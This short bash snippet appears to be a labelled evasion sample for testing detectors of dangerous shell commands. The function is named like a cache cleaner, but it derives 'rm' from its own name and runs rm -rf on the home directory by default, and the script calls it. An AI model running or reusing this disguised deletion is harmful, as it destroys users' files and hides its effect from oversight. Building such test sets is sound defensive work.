# evasion: the command is the function's own name, cut from ${FUNCNAME[0]} inside the body
# grade: hard; does: delete
rm_cache() {
	"${FUNCNAME[0]%%_*}" -rf -- "${1:-$HOME}"
}
echo "clearing caches"
rm_cache
